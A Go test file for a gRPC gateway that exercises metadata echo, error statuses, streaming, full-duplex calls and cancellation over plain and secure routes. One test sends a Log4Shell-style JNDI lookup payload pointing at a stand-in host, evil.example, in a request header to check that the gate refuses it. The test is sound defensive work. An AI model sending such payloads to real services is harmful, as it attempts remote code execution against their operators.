package grpc

import (
	"bytes"
	"context"
	"errors"
	"io"
	"strings"
	"testing"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	wire "google.golang.org/grpc/interop/grpc_testing"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
)

// each runs a test over both ways to the application.
func each(t *testing.T, test func(t *testing.T, ctx context.Context, c wire.TestServiceClient)) {
	t.Helper()
	for _, way := range []string{"plain", "secure"} {
		t.Run(way, func(t *testing.T) {
			c, ctx := here.client(t, way+".example.test")
			test(t, ctx, c)
		})
	}
}

func payload(n int) *wire.Payload { return &wire.Payload{Body: bytes.Repeat([]byte("milk"), n/4)} }

func TestOneCallWithItsMetadata(t *testing.T) {
	each(t, func(t *testing.T, ctx context.Context, c wire.TestServiceClient) {
		var before, behind metadata.MD
		ctx = metadata.AppendToOutgoingContext(ctx, "x-echo", "abc", "x-forwarded-for", "203.0.113.9")
		for _, size := range []int{0, 4, 3 << 20} {
			got, err := c.UnaryCall(ctx, &wire.SimpleRequest{Payload: payload(size)}, grpc.Header(&before), grpc.Trailer(&behind))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got.GetPayload().GetBody(), payload(size).GetBody()) || got.GetUsername() != "127.0.0.1" {
				t.Errorf("%d bytes of %d came back, from %q", len(got.GetPayload().GetBody()), size, got.GetUsername())
			}
			if strings.Join(before.Get("x-before"), "") != "abc" || strings.Join(behind.Get("x-behind"), "") != "abc" || strings.Join(behind.Get("x-own-bin"), "") != "\x00\xff" {
				t.Errorf("before it came %v, behind it %v", before, behind)
			}
		}
	})
}

func TestACallsOwnFailureArrives(t *testing.T) {
	each(t, func(t *testing.T, ctx context.Context, c wire.TestServiceClient) {
		for code := codes.Canceled; code <= codes.Unauthenticated; code++ {
			_, err := c.UnaryCall(ctx, &wire.SimpleRequest{ResponseStatus: &wire.EchoStatus{Code: int32(code), Message: "no milk: 50% of ü"}}) //nolint:gosec // below 17
			if s := status.Convert(err); s.Code() != code || s.Message() != "no milk: 50% of ü" {
				t.Errorf("%s arrives as %v", code, err)
			}
		}
		if _, err := c.UnimplementedCall(ctx, new(wire.Empty)); status.Code(err) != codes.Unimplemented {
			t.Errorf("what there is not answers %v", err)
		}
	})
}

func TestStreamsInEachDirection(t *testing.T) {
	each(t, func(t *testing.T, ctx context.Context, c wire.TestServiceClient) {
		sizes := &wire.StreamingOutputCallRequest{}
		for i := range 100 {
			sizes.ResponseParameters = append(sizes.ResponseParameters, &wire.ResponseParameters{Size: int32(1 + i*1000)}) //nolint:gosec // small
		}
		out, err := c.StreamingOutputCall(ctx, sizes)
		if err != nil {
			t.Fatal(err)
		}
		for i := range 100 {
			if m, err := out.Recv(); err != nil || len(m.GetPayload().GetBody()) != 1+i*1000 {
				t.Fatalf("message %d: %v", i, err)
			}
		}
		if _, err := out.Recv(); !errors.Is(err, io.EOF) {
			t.Errorf("it ends with %v", err)
		}

		in, err := c.StreamingInputCall(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for range 200 {
			if err := in.Send(&wire.StreamingInputCallRequest{Payload: payload(64 << 10)}); err != nil {
				t.Fatal(err)
			}
		}
		if m, err := in.CloseAndRecv(); err != nil || m.GetAggregatedPayloadSize() != 200*64<<10 {
			t.Errorf("%d bytes came: %v", m.GetAggregatedPayloadSize(), err)
		}
	})
}

// Each message is sent only once the one before has come back: nothing on the way may wait for more.
func TestAConversation(t *testing.T) {
	each(t, func(t *testing.T, ctx context.Context, c wire.TestServiceClient) {
		both, err := c.FullDuplexCall(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for i := range 100 {
			if err := both.Send(&wire.StreamingOutputCallRequest{Payload: payload(4 * i)}); err != nil {
				t.Fatal(err)
			}
			if m, err := both.Recv(); err != nil || len(m.GetPayload().GetBody()) != 4*i {
				t.Fatalf("message %d: %v", i, err)
			}
		}
		if err := both.CloseSend(); err != nil {
			t.Fatal(err)
		}
		if _, err := both.Recv(); !errors.Is(err, io.EOF) {
			t.Errorf("it ends with %v", err)
		}
	})
}

func TestWhoLeavesIsMissedByTheApplication(t *testing.T) {
	each(t, func(t *testing.T, ctx context.Context, c wire.TestServiceClient) {
		ctx, leave := context.WithCancel(ctx)
		out, err := c.StreamingOutputCall(ctx, &wire.StreamingOutputCallRequest{})
		if err != nil {
			t.Fatal(err)
		}
		if h, err := out.Header(); err != nil || len(h.Get("x-listening")) != 1 {
			t.Fatalf("the head of a silent answer: %v, %v", h, err)
		}
		leave()
		if _, err := out.Recv(); status.Code(err) != codes.Canceled {
			t.Errorf("it ends with %v", err)
		}
		<-here.app.left
	})
}

func TestWhatTheGateRefusesIsAStatusOfGRPC(t *testing.T) {
	c, ctx := here.client(t, "plain.example.test")
	attack := metadata.AppendToOutgoingContext(ctx, "x-api-version", "${jndi:ldap://evil.example/a}")
	if _, err := c.UnaryCall(attack, new(wire.SimpleRequest)); status.Code(err) != codes.PermissionDenied {
		t.Errorf("an attack is answered %v", err)
	}
	if err := here.dial(t, "plain.example.test").Invoke(ctx, "/grpc.testing.Other/Call", new(wire.Empty), new(wire.Empty)); status.Code(err) != codes.Unauthenticated {
		t.Errorf("a stranger where nobody may go unknown is answered %v", err)
	}
}
